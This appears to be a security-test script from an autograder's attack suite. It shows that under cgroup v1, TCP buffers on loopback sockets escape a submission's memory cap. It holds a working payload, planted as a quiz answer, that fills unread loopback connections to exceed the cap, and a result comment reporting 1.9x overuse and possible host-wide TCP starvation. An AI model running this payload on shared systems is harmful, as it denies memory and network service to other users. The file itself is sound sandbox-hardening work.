"""Round 13, a02 (ROOT run): TCP socket buffers over loopback are charged to no memory cgroup (cgroup v1).

Threat model: "a cgroup per submission (v2, or v1's memory/cpu/pids) ... caps memory of all their processes
together (6 GiB, tmpfs included, no swap)", and, after round 6's socket buffers as an ordinary user: "Grade as
root (a cgroup per submission) wherever memory must be capped for certain." Under cgroup v1 the kernel charges a
socket to its memory cgroup only when TCP accounting is on for that cgroup (memory.kmem.tcp.limit_in_bytes
written: memcg->tcpmem_active); the grader writes memory.limit_in_bytes and memory.memsw.limit_in_bytes only.
So TCP buffers of the kernel's own loopback (its network namespace has one; IP sockets are allowed: gloo) are
counted by nothing but the host-wide net.ipv4.tcp_mem (575,802 pages = 2.2 GiB here, shared by every process of
the host and every sandbox).

The cap is lowered to 1 GiB with tests/attacks/run_grade.py (tools.grade.main with the sandbox's limits overridden,
as tests/test_attacks.py does) to keep this machine's memory use small: the kernel holds 600 MiB of its own
memory (counted), then fills TCP connections to itself that it never reads (1.2 GiB, below tcp_mem's pressure
threshold so that other work on this machine is not throttled), holds both 20 s, then answers q1. The host samples
the submission's memory cgroup (the one whose limit is 1 GiB) and the host's TCP memory. An honest student is
graded in the same run.
Usage: <venv python> a02_tcp_buffers_past_memory_cgroup.py
"""
import os, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common13 import course, grade, show, notebook, honest_nb, outputs, cgroups, tcp_mem_bytes
import threading

TCP_TARGET = int(os.environ.get("TCP_MIB", "1200")) << 20
ANON = 600 << 20
Q1 = r'''
import socket, time, resource
def _tcp_mem():
    for line in open("/proc/net/sockstat"):
        if line.startswith("TCP:"):
            f = line.split(); return int(f[f.index("mem") + 1]) * 4096
_anon = bytearray(%d)
for _i in range(0, len(_anon), 4096):
    _anon[_i] = 1
_t0, _keep, _queued = _tcp_mem(), [], 0
_L = socket.socket(); _L.bind(("127.0.0.1", 0)); _L.listen(1024)
while _tcp_mem() - _t0 < %d and len(_keep) < 500:
    _a = socket.create_connection(_L.getsockname()); _b, _ = _L.accept()
    _b.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    _a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    _a.setblocking(False)
    _stalls = 0
    while _stalls < 3:
        try:
            _queued += _a.send(b"x" * 65536)
        except BlockingIOError:
            _stalls += 1; time.sleep(0.005)
    _keep.append((_a, _b))
print(f"anon {len(_anon) / 2**20:.0f} MiB (counted); TCP: {_queued / 2**30:.2f} GiB queued on {len(_keep)} loopback "
      f"connections, host tcp mem +{(_tcp_mem() - _t0) / 2**30:.2f} GiB; "
      f"RLIMIT_DATA {resource.getrlimit(resource.RLIMIT_DATA)[0] / 2**30:.2f} GiB", flush=True)
time.sleep(20)
del _keep, _anon
q1 = "a"
''' % (ANON, TCP_TARGET)

if __name__ == "__main__":
    dest = "/tmp/attack13-a02"
    course(dest, {"aa_honest": honest_nb(), "zz_tcp": notebook(overrides={"quiz_q1": Q1})})
    rows, stop = [], []

    def sample():
        base = tcp_mem_bytes()
        while not stop:
            mine = cgroups(only=lambda d: open(os.path.join(d, "memory.limit_in_bytes")).read().strip() == str(1 << 30))
            rows.append((tcp_mem_bytes() - base, mine))
            time.sleep(0.25)

    th = threading.Thread(target=sample, daemon=True); th.start()
    grade(dest, limits={"memory_bytes": 1 << 30})
    stop.append(1); th.join()
    best = max(rows, key=lambda r: r[0] + sum(v["usage_in_bytes"] for v in r[1].values()))
    tcp, cg = best
    usage = sum(v["usage_in_bytes"] for v in cg.values())
    print(f"host, at the peak: TCP buffer memory +{tcp / 2**30:.2f} GiB (charged to no cgroup) while the submission's "
          f"memory cgroup(s) {sorted(k.split('-')[-1] for k in cg)} held {usage / 2**30:.2f} GiB of a 1.00 GiB limit "
          f"(max_usage {max([v['max_usage_in_bytes'] for v in cg.values()] or [0]) / 2**30:.2f} GiB): together "
          f"{(tcp + usage) / 2**30:.2f} GiB = {(tcp + usage) / (1 << 30):.1f}x the cap")
    show(dest)
    outputs(dest, "zz_tcp")
    import shutil; shutil.rmtree(dest, ignore_errors=True)

# RESULT (root, cgroup v1, kernel 6.18, a02.out.txt): BROKEN (caps). With a 1 GiB cap the submission held 0.69 GiB
#   counted by its memory cgroup plus 1.17 GiB of TCP buffers on 103 loopback connections that no cgroup counted
#   (host /proc/net/sockstat TCP mem +1.17 GiB; memory.usage of the cgroup 0.69 GiB): 1.86 GiB, 1.9x the cap. The
#   kernel read the host-wide TCP count from inside (/proc/net/sockstat is not per namespace for "mem"). With the
#   shipped 6 GiB cap the extra is bounded only by net.ipv4.tcp_mem (575,802 pages = 2.2 GiB here, for the whole
#   host): 8.2 GiB for one submission, and at that point every TCP socket of the host (other sandboxes' gloo
#   included) is under memory pressure or refused (not demonstrated: shared machine). Honest student: 24/24.
